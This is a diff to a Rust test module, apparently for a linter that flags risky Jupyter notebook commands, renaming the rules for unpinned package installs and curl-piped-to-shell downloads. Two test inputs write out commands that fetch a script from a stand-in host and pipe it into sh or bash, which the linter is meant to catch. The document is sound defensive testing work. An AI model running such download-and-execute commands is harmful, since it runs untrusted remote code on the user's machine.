@@ -191,15 +191,15 @@ mod tests {
 
     #[test]
     fn commands_and_magics_are_judged() {
-        assert_eq!(rules(&read(&["!pip install transformers torch"])), ["pipeline/unpinned-install"]);
+        assert_eq!(rules(&read(&["!pip install transformers torch"])), ["pipeline/unpinned-package"]);
         assert_eq!(rules(&read(&["%pip install torch==2.1.0"])), [""; 0]);
         assert_eq!(
             rules(&read(&["x = 1\n!curl -sL https://x.example/i.sh | sh"])),
-            ["pipeline/download-piped-to-shell"]
+            ["pipeline/curl-pipe-shell"]
         );
         assert_eq!(
             rules(&read(&["%%bash\ncurl https://x.example/i.sh | bash\n"])),
-            ["pipeline/download-piped-to-shell"]
+            ["pipeline/curl-pipe-shell"]
         );
         assert_eq!(rules(&read(&["%%html\n<b>pickle.load(f)</b>"])), [""; 0]);
         assert_eq!(
